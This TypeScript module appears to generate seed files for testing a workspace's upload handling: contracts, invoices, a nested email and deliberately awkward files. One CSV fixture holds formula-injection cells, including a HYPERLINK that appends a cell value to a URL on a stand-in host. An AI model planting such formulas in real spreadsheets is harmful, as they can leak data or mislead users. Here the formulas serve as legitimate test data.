import { baseInstant } from '../../db/clock.ts';
import { formatsOf } from '../../ui/format.ts';
import { addDays } from '../row-maker.ts';
import type { SeedCustomer, SeedInvoice } from '../rows.ts';
import type { TenantProfile } from '../tenant-profiles.ts';
import { writePdf } from './write-pdf.ts';
import { writePng } from './write-png.ts';

/** One file before it is stored. */
export interface SampleFile {
  readonly name: string;
  readonly mediaType: string;
  readonly bytes: Buffer;
}

const utf8 = (text: string): Buffer => Buffer.from(text, 'utf8');
const file = (name: string, mediaType: string, bytes: Buffer): SampleFile => ({ name, mediaType, bytes });

const latin = ({ name, email }: SeedCustomer): string => (/^[\x20-\xff]+$/.test(name) ? name : email);

/** Says five seats, whatever tickets and notes say. */
export const contractOf = (profile: TenantProfile, customer: SeedCustomer): SampleFile =>
  file(
    'signed-contract.pdf',
    'application/pdf',
    writePdf([
      [
        'SERVICE AGREEMENT',
        '',
        `between ${/^[\x20-\xff]+$/.test(profile.name) ? profile.name : profile.mailDomain} and ${latin(customer)}`,
        '',
        '1. Subject: use of Planner by the customer.',
        '2. Seats: five (5). Further seats are ordered in writing.',
        '3. Term: twelve months, renewed by twelve unless cancelled 30 days before.',
        '4. Billing: yearly, in advance.',
      ],
      ['Signatures', '', `For ${latin(customer)}:  ______________________`, '', 'Page 2 of 2'],
    ]),
  );

export function invoicePdf(invoice: SeedInvoice): SampleFile {
  const money = (minor: number) => formatsOf('en', 'Etc/UTC').money(minor, invoice.currency);
  return file(
    `${invoice.number}.pdf`,
    'application/pdf',
    writePdf([
      [
        `INVOICE ${invoice.number}`,
        '',
        `Issued ${invoice.issuedAt.slice(0, 10)}, due ${invoice.dueAt.slice(0, 10)}`,
        `Subtotal ${money(invoice.subtotalMinor)}`,
        `Tax ${money(invoice.taxMinor)}`,
        `Total ${money(invoice.totalMinor)}`,
      ],
    ]),
  );
}

export function nestedMail(profile: TenantProfile, customer: SeedCustomer): SampleFile {
  const { email } = customer;
  const inner = [
    `From: ${profile.supportEmail}`,
    `To: ${email}`,
    'Subject: Your trial ends on Friday',
    'Date: Mon, 16 Feb 2026 08:00:00 +0000',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Hello,\r\n\r\nyour trial of Planner ends on Friday. Nothing is charged unless you choose a plan.',
  ];
  return file(
    'Fwd your trial.eml',
    'message/rfc822',
    utf8(
      [
        `From: ${email}`,
        `To: ${profile.supportEmail}`,
        'Subject: =?UTF-8?Q?Fwd:_your_trial_=E2=80=93_what_now=3F?=',
        'Date: Tue, 17 Feb 2026 09:12:00 +0000',
        'MIME-Version: 1.0',
        'Content-Type: multipart/mixed; boundary="outer"',
        '',
        '--outer',
        'Content-Type: text/plain; charset=utf-8',
        'Content-Transfer-Encoding: quoted-printable',
        '',
        'We are still waiting for the quote. See the mail below; does the trial=20\r\nend although we have not decided yet?',
        '--outer',
        'Content-Type: message/rfc822',
        'Content-Disposition: attachment; filename="trial.eml"',
        '',
        ...inner,
        '--outer--',
        '',
      ].join('\r\n'),
    ),
  );
}

const formulas = `item,quantity,unit,total
Seats,5,35,=B2*C2
Training,1,420,"=SUM(C2:C3)"
"Discount, early",1,-20,+C4
Contact,,,@ reception
Link,,,"=HYPERLINK(""http://sheets.example/q?""&A2,""open"")"
`;

const contactsCsv = (customers: readonly SeedCustomer[]): string =>
  `\ufeffname,company,email\r\n${customers
    .slice(0, 12)
    .map(({ contactName, name, email }) => `"${contactName}","${name.replaceAll('"', '""')}",${email}`)
    .join('\r\n')}\r\n`;

const terms = Array.from(
  { length: 40 },
  (_, index) =>
    `${index + 1}. ${['Either party may end the agreement in writing.', 'Data is deleted 30 days after the end.', 'Support answers on working days.', 'Prices are net of tax.'][index % 4]}`,
).join('\n\n');

/** The local header of a file that asks for a password: https://pkware.cachefly.net/webdocs/casestudies/APPNOTE.TXT */
function lockedZip(): Buffer {
  const name = utf8('salaries.csv');
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(1, 6);
  head.writeUInt32LE(24, 18);
  head.writeUInt32LE(12, 22);
  head.writeUInt16LE(name.length, 26);
  return Buffer.concat([head, name, Buffer.from('4f1c9be2a07733d58812ee04bb6ad1907f33c2e8a1905d6b', 'hex')]);
}

/** What lies about in a workspace: the ordinary, and what trips those who go by the name. */
export const lyingAbout = (customers: readonly SeedCustomer[]): readonly SampleFile[] => [
  file(
    'Notizen Köln.txt',
    'text/plain',
    Buffer.from('\ufeffProtokoll\r\n\r\n– 5 Plätze, nicht 3\r\n– Beginn: 1. März\r\n', 'utf16le'),
  ),
  file('contacts.csv', 'text/csv', utf8(contactsCsv(customers))),
  file('quote-with-formulas.csv', 'text/csv', utf8(formulas)),
  file('empty.txt', 'text/plain', Buffer.alloc(0)),
  file('scan_0042.pdf', 'application/pdf', writePng(48, [214, 219, 232])),
  file('salaries-2025.pdf', 'application/pdf', writePdf([['9f41c2a7e0']], { encrypted: true })),
  file('salaries.zip', 'application/zip', lockedZip()),
  file('logo.png', 'image/png', writePng(96, [54, 81, 212])),
  file('terms-of-service.txt', 'text/plain', utf8(terms)),
  file(
    'meeting-notes.txt',
    'text/plain',
    utf8(
      'Meeting\r\n=======\r\n\r\n* import of projects first\r\n* training in May\r\n* see attachment (there is none)\r\n',
    ),
  ),
  file('alte-Adresse.txt', 'text/plain', Buffer.from('Grüße aus der Königsstraße 5\n', 'latin1')),
  file(
    'signature.html',
    'text/html',
    utf8('<p>Kind regards<br><b>The team</b></p>\n<img src="https://cdn.parcelbird.example/banner.png">\n'),
  ),
  file(
    'diagram.svg',
    'image/svg+xml',
    utf8('<svg width="80" height="40"><rect width="80" height="40" fill="#3651d4"/></svg>\n'),
  ),
  file('議事録 (最終版).txt', 'text/plain', utf8('議事録\n\n・席数は5\n・開始は来月一日\n')),
  file('عرض السعر.txt', 'text/plain', utf8('عرض السعر\n\nخمسة مقاعد، فوترة سنوية.\n')),
  file(`${'final-'.repeat(30)}really.txt`, 'text/plain', utf8('This one.\n')),
  file(
    'price-list.csv',
    'text/csv',
    utf8('plan;seats;price\nTeam;1;12,00\nStudio;1;35,00\nEnterprise;1;on request\n'),
  ),
  file('report', 'application/octet-stream', utf8('week,tickets,solved\n6,41,38\n7,37,39\n8,52,44\n')),
];

/** Younger than the world's beginning by this many days, so that lists have an order. */
export const uploadedAt = (slot: number): string => addDays(baseInstant, -1.5 - slot * 2.75);
